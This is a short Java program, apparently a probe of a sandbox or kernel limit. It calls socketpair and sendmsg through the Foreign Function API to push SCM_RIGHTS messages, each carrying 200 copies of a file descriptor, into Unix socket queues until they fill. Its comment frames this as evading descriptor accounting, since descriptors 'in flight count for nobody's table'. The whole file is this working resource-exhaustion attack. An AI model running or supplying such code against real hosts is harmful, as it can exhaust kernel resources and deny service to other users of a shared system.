import java.lang.foreign.*;

import static java.lang.foreign.ValueLayout.*;

class Main {
    // Descriptors in flight count for nobody's table: send each into a socket and close it.
    public static void main(String[] args) throws Throwable {
        System.out.println("attempt");
        var libc = Linker.nativeLinker();
        var socketpair = libc.downcallHandle(libc.defaultLookup().findOrThrow("socketpair"),
            FunctionDescriptor.of(JAVA_INT, JAVA_INT, JAVA_INT, JAVA_INT, ADDRESS));
        var sendmsg = libc.downcallHandle(libc.defaultLookup().findOrThrow("sendmsg"),
            FunctionDescriptor.of(JAVA_LONG, JAVA_INT, ADDRESS, JAVA_INT));
        var memory = Arena.global();
        var rights = memory.allocate(16 + 200 * 4, 8);  // struct cmsghdr
        rights.set(JAVA_LONG, 0, rights.byteSize());
        for (int at = 8; at < rights.byteSize(); at += 4) rights.set(JAVA_INT, at, 1);
        var part = memory.allocate(16, 8);  // struct iovec
        part.set(ADDRESS, 0, memory.allocateFrom("x"));
        part.set(JAVA_LONG, 8, 1);
        var message = memory.allocate(56, 8);  // struct msghdr
        message.set(ADDRESS, 16, part);
        message.set(JAVA_LONG, 24, 1);
        message.set(ADDRESS, 32, rights);
        message.set(JAVA_LONG, 40, rights.byteSize());
        int held = 0;
        for (var pair = memory.allocate(8, 4); (int) socketpair.invoke(1, 04001, 0, pair) == 0;)
            while ((long) sendmsg.invoke(pair.get(JAVA_INT, 0), message, 0) == 1) held += 200;
        System.out.println(held);
    }
}
